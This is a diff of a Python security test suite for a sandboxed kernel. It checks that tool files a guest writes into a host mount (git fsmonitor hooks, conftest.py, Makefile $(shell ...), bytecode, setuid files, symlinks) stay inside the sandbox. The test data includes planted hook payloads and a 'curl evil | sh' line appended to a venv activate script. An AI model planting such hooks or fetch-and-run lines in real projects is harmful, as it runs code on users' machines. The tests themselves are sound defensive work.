@@ -1,10 +1,11 @@
-"""Files the guest leaves in a read-write mount for host programs to run: refused where the write happens.
+"""Files the guest leaves in a read-write mount for host programs to run: they never reach the host.
 
-Promise (docs/security.md, "What rw means"): the supervisor makes every change to a read-write mount (the worker may
-write no host file) and refuses, at any depth, the paths that host programs execute or trust
-(host_ts/guarded_paths.json: `.git/`, `conftest.py`, Makefiles, `*.pth`, `__pycache__/`, editor and agent
-settings, shell dotfiles, ...), anything inside a virtual environment, symlinks, and modes that are setuid,
-world-writable or executable; `mount_limits[...]["allow_tool_files"]` lifts a rule for one mount. Each test here
+Promise (docs/security.md, "Host folders are default-deny"): the supervisor makes every change to a host folder
+(the worker may write no host file) and lets through only plain data files (host_ts/host_writes.json); tool files
+(`.git/`, `conftest.py`, Makefiles, `*.pth`, `__pycache__/*.pyc`, editor and agent settings, shell dotfiles, ...)
+stay in the sandbox's own layer over the folder, where they work; nothing is written inside a virtual environment,
+no symlinks, no setuid, world-writable or executable modes; `mount_limits[...]["host_writes"] = "any"` lets every
+file name through for one mount (the other rules stay). Each test here
 plants the file the way an attacker would (Python, Pyodide's FS from JS, Deno's and Node's APIs on the host
 path, a rename of an innocent file) and then runs the host program that would trust it.
 """
@@ -101,9 +102,17 @@ def untouched(project):
         assert path.read_bytes() == data, f"LEAK: {path} was changed"
 
 
-def refused_or_failed(run) -> None:
-    """The guest's write did not happen: an error (PermissionError from Python, Deno's NotCapable, FS's EACCES)."""
-    assert run.content["status"] == "error", f"the write went through: {run.content}"
+HOST_PATH_ROUTES = ("deno-host-path", "node-fs-host-path")
+
+
+def kept_off_the_host(run, route: str) -> None:
+    """Through the host path, Deno refuses the write (the worker may write no host file); through the sandbox's
+    file system it works, in the sandbox's own layer (the host folder is checked by each test)."""
+    if route in HOST_PATH_ROUTES:
+        assert run.content["status"] == "error", f"the write went through: {run.content}"
+        assert "NotCapable" in run.content["evalue"], run.content
+    else:
+        assert run.content["status"] == "ok", run.content
 
 
 @pytest.mark.parametrize("route", ROUTES)
@@ -113,10 +122,9 @@ def test_git_runs_nothing_the_guest_wrote_into_git_config(mounted, project, unto
     marker = marker_path()
     payload = f"\n[core]\n\tfsmonitor = touch {marker}\n"
     run = execute(kc, ways_to_write("/out/.git/config", payload)[route])
-    refused_or_failed(run)
+    kept_off_the_host(run, route)
     if route == "python":
-        assert "changing /out/.git/config is refused" in run.content["evalue"], run.content["evalue"]
-        assert '"allow_tool_files": ["version-control"]' in run.content["evalue"]
+        assert "/out/.git/config stays inside the sandbox" in run.stream("stderr"), run.outputs
     assert host(["git", "status", "--short"], project).returncode == 0
     assert not marker.exists(), "LEAK: git ran the guest's fsmonitor"
     assert_alive(kc)
@@ -129,7 +137,7 @@ def test_a_new_repository_in_a_subfolder_cannot_be_planted(mounted, project, rou
     config = f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch {marker}\n"
     try:
         run = execute(kc, ways_to_write("/out/sub/.git/config", config)[route])
-        refused_or_failed(run)
+        kept_off_the_host(run, route)
         assert not (project / "sub" / ".git").exists()
         host(["git", "status"], project / "sub") if (project / "sub").is_dir() else None
         assert not marker.exists(), "LEAK: git ran the guest's fsmonitor"
@@ -144,7 +152,7 @@ def test_pytest_imports_no_conftest_the_guest_wrote(mounted, project, route):
     marker = marker_path()
     try:
         run = execute(kc, ways_to_write("/out/tests/conftest.py", f"open({str(marker)!r}, 'w').write('x')\n")[route])
-        refused_or_failed(run)
+        kept_off_the_host(run, route)
         proc = host([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "--no-cov", "tests"], project)
         assert "1 passed" in proc.stdout, proc.stdout + proc.stderr
         assert not marker.exists(), "LEAK: pytest imported the guest's conftest.py"
@@ -159,7 +167,7 @@ def test_make_runs_nothing_the_guest_wrote_into_a_makefile(mounted, project, unt
     _, kc = mounted
     marker = marker_path()
     run = execute(kc, ways_to_write("/out/Makefile", f"\nX := $(shell touch {marker})\n")[route])
-    refused_or_failed(run)
+    kept_off_the_host(run, route)
     assert host(["make", "-n"], project).returncode == 0
     assert not marker.exists(), "LEAK: make ran the guest's $(shell ...)"
 
@@ -180,8 +188,8 @@ def test_bytecode_next_to_the_users_module_is_refused(mounted, project, tmp_path
         f"open('/out/__pycache__/mod.{tag}.pyc', 'wb').write(bytes.fromhex({compiled.read_bytes().hex()!r}))"
     )
     run = execute(kc, code)
-    refused_or_failed(run)
-    assert "__pycache__" in run.content["evalue"] and "refused" in run.content["evalue"]
+    assert run.content["status"] == "ok", run.content  # Python's own caches stay inside, without a notice
+    assert not list(project.glob("__pycache__/*.pyc"))
     proc = host([sys.executable, "-c", "import mod; print(mod.VALUE)"], project)
     assert proc.stdout.strip() == "1" and not marker.exists(), "LEAK: the host imported the guest's bytecode"
 
@@ -207,24 +215,28 @@ def test_bytecode_next_to_the_users_module_is_refused(mounted, project, tmp_path
         ("Makefile.", "build"),  # a trailing dot (Windows drops it)
     ],
 )
-def test_tool_files_are_refused_at_any_depth_with_the_rule_named(mounted, project, path, rule):
+def test_tool_files_stay_inside_the_sandbox_at_any_depth(mounted, project, path, rule):
     _, kc = mounted
     deep = f"deep-{token('d')}"  # a folder of its own: Pyodide caches what it saw of the mount
     for where in (path, f"{deep}/er/{path}"):
-        run = execute(kc, ways_to_write(f"/out/{where}", "planted")["python"])
-        assert run.content["ename"] == "PermissionError", run.content
-        assert f'"allow_tool_files": ["{rule}"]' in run.content["evalue"], run.content["evalue"]
+        run = execute(kc, ways_to_write(f"/out/{where}", "planted")["python"] + f"\nopen('/out/{where}').read()")
+        assert value(run) == "'planted'", run.content
+        assert "stays inside the sandbox" in run.stream("stderr"), run.outputs
         assert not (project / where).exists()
+        assert not (project / deep).exists()
     execute(kc, f"import shutil\nshutil.rmtree('/out/{deep}', ignore_errors=True)")
 
 
 def test_a_virtual_environment_in_the_mount_is_not_changed(mounted, project, untouched):
     _, kc = mounted
     run = execute(kc, "open('/out/venv/bin/activate', 'a').write('curl evil | sh')")
+    assert run.content["status"] == "ok", run.content  # not a data file: it stays inside the sandbox
+    run = execute(kc, "open('/out/venv/notes.txt', 'w').write('a data file, but in a virtual environment')")
     assert run.content["ename"] == "PermissionError"
     assert "inside the Python virtual environment /out/venv" in run.content["evalue"]
     run = execute(kc, "import os\nos.rename('/out/venv', '/out/venv2')")
-    assert run.content["ename"] == "PermissionError"
+    # Part of venv is in the sandbox's layer now (activate, above): it cannot move as one folder.
+    assert run.content["ename"] == "OSError" and "Cross-device" in run.content["evalue"], run.content
 
 
 def test_no_symlinks_and_no_executables_are_made(mounted, project):
@@ -233,16 +245,16 @@ def test_no_symlinks_and_no_executables_are_made(mounted, project):
         kc,
         'import pyodide_js, pyodide.code\npyodide.code.run_js(\'(FS) => FS.symlink("/out/mod.py", "/out/alias")\')(pyodide_js.FS)',
     )
-    refused_or_failed(run)
-    assert not (project / "alias").is_symlink()
+    assert run.content["status"] == "ok", run.content  # the link is the sandbox's own
+    assert not (project / "alias").exists() and not (project / "alias").is_symlink()
     try:
         run = execute(
-            kc, "import os\nopen('/out/tool.sh', 'w').write('#!/bin/sh\\nid')\nos.chmod('/out/tool.sh', 0o4755)"
+            kc, "import os\nopen('/out/tool.txt', 'w').write('#!/bin/sh\\nid')\nos.chmod('/out/tool.txt', 0o4755)"
         )
         assert run.content["status"] == "ok", run.content
-        assert (project / "tool.sh").stat().st_mode & 0o7777 == 0o644  # no setuid, not executable
+        assert (project / "tool.txt").stat().st_mode & 0o7777 == 0o644  # no setuid, not executable
     finally:
-        (project / "tool.sh").unlink(missing_ok=True)
+        (project / "tool.txt").unlink(missing_ok=True)
 
 
 def test_ordinary_files_and_folders_are_written_as_usual(mounted, project):
@@ -264,16 +276,19 @@ def test_ordinary_files_and_folders_are_written_as_usual(mounted, project):
         shutil.rmtree(project / "results", ignore_errors=True)
 
 
-def test_a_mount_can_allow_one_rule_for_people_who_know(tmp_path):
+def test_a_mount_can_take_any_file_for_people_who_know(tmp_path):
     folder = tmp_path / "build"
     folder.mkdir()
-    limits = json.dumps({"/out": {"allow_tool_files": ["build"]}})
+    limits = json.dumps({"/out": {"host_writes": "any"}})
     km, kc = start_kernel([f"--SandboxKernel.mounts=['{folder}:/out:rw']", f"--SandboxKernel.mount_limits={limits}"])
     try:
-        assert execute(kc, "open('/out/Makefile', 'w').write('all:\\n\\techo ok\\n')").content["status"] == "ok"
+        run = execute(kc, "open('/out/Makefile', 'w').write('all:\\n\\techo ok\\n')")
+        assert run.content["status"] == "ok" and run.stream("stderr") == "", run.outputs
         assert (folder / "Makefile").is_file()
-        run = execute(kc, "open('/out/conftest.py', 'w')")  # another rule stays
-        assert run.content["ename"] == "PermissionError"
+        code = "import os\nopen('/out/run.sh', 'w').write('id')\nos.chmod('/out/run.sh', 0o4755)\nos.symlink('/tmp', '/out/e')"
+        assert execute(kc, code).content["status"] == "ok"
+        assert (folder / "run.sh").stat().st_mode & 0o7777 == 0o644  # the mode rules stay
+        assert not (folder / "e").is_symlink()  # and no link reaches the host
     finally:
         stop_kernel(km, kc)
 
